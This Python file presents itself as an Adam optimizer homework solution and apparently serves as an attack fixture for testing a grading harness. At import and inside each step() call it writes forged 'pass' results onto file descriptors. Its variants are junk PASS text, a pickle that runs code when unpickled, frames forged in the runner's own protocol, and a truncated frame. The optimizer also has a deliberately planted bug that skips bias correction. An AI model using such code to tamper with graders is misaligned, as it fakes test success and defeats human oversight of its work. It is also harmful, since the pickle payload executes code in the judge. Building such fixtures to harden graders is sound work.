# Do not import any additional 3rd party external libraries as they will not
# be available to AutoLab and are not needed (or allowed)

import numpy as np
import json
import os
import pickle
import struct

from mytorch import CONFIG, evidence

# ATTACK (test_forged_results_on_file_descriptors): write forged results on every file
# descriptor from 1 to 20 (whichever is a pipe to the judge gets them), at import and at every
# step. CONFIG["variant"] says what: "junk" (text claiming passes), "pickle" (a pickle whose
# loading would run code: it creates CONFIG["pickle_flag"]), "frame" (well-formed frames of
# the runner's own wire protocol that claim a pass) or "truncated" (the first bytes of a frame
# that announces a 1 MB header, which never comes, written on every descriptor the process has,
# as listed in /proc/self/fd, so that it reaches the wire wherever the runner keeps it:
# test_truncated_frame_on_file_descriptors).

_SPECS = ("adam.first_moment", "adam.second_moment", "adam.bias_correction", "adam.update")


class _RunsWhenUnpickled:
    def __reduce__(self):
        return (open, (CONFIG.get("pickle_flag", "/nonexistent/pickle-ran"), "w"))


def _payloads():
    variant = CONFIG.get("variant", "junk")
    claims = [{"spec": spec, "outcome": "pass", "target": CONFIG.get("name", "")} for spec in _SPECS]
    if variant == "junk":
        return [b"".join(f"PASS {c['spec']}\n{json.dumps(c)}\n".encode() for c in claims)]
    if variant == "pickle":
        return [pickle.dumps({"results": claims, "payload": _RunsWhenUnpickled()}, protocol=proto) for proto in (2, 4)]
    if variant == "truncated":  # the start of a frame that announces 1 MB and never comes
        return [struct.pack("<QQ", 2**20, 0) + b'{"value": ']
    frames = []
    for value in ({"ok": {"$d": {"outcome": "pass"}}, "printed": 0}, {"ok": None, "printed": 0},
                  {"ok": {"$h": [1, "Result"]}, "printed": 0}):
        header = json.dumps({"value": {"$d": value}, "buffers": []}).encode()
        frames.append(struct.pack("<QQ", len(header), 0) + header)
    return frames


def _descriptors():
    if CONFIG.get("variant") != "truncated":
        return range(1, 21)
    try:
        return sorted(int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2)
    except OSError:
        return range(3, 4096)


def _forge():
    written = {}
    for fd in _descriptors():
        for payload in _payloads():
            try:
                written[fd] = written.get(fd, 0) + os.write(fd, payload)
            except OSError:
                pass
    return written


evidence("forged", written=_forge())


def _in_step(optimizer):
    _forge()


class adam():
    def __init__(self, model, lr, beta1=0.9, beta2=0.999, eps=1e-8):
        self.l = model.layers
        self.beta1 = beta1
        self.beta2 = beta2
        self.eps = eps
        self.lr = lr
        self.t = 0

        self.m_W = [np.zeros(l.W.shape) for l in model.layers]
        self.v_W = [np.zeros(l.W.shape) for l in model.layers]

        self.m_b = [np.zeros(l.b.shape) for l in model.layers]
        self.v_b = [np.zeros(l.b.shape) for l in model.layers]

    def step(self):
        _in_step(self)

        self.t += 1
        for layer_id, layer in enumerate(self.l):

            # Calculate updates for weight
            self.m_W[layer_id] = self.beta1 * self.m_W[layer_id] + (1 - self.beta1) * layer.dLdW
            self.v_W[layer_id] = self.beta2 * self.v_W[layer_id] + (1 - self.beta2) * (layer.dLdW ** 2)

            # calculate updates for bias
            self.m_b[layer_id] = self.beta1 * self.m_b[layer_id] + (1 - self.beta1) * layer.dLdb
            self.v_b[layer_id] = self.beta2 * self.v_b[layer_id] + (1 - self.beta2) * (layer.dLdb ** 2)

            # Perform weight and bias updates
            # PLANTED BUG: no bias correction (adam.bias_correction must fail)
            m_W_hat = self.m_W[layer_id]
            v_W_hat = self.v_W[layer_id]
            m_b_hat = self.m_b[layer_id]
            v_b_hat = self.v_b[layer_id]

            layer.W = layer.W - self.lr * m_W_hat / (np.sqrt(v_W_hat) + self.eps)
            layer.b = layer.b - self.lr * m_b_hat / (np.sqrt(v_b_hat) + self.eps)

        return None
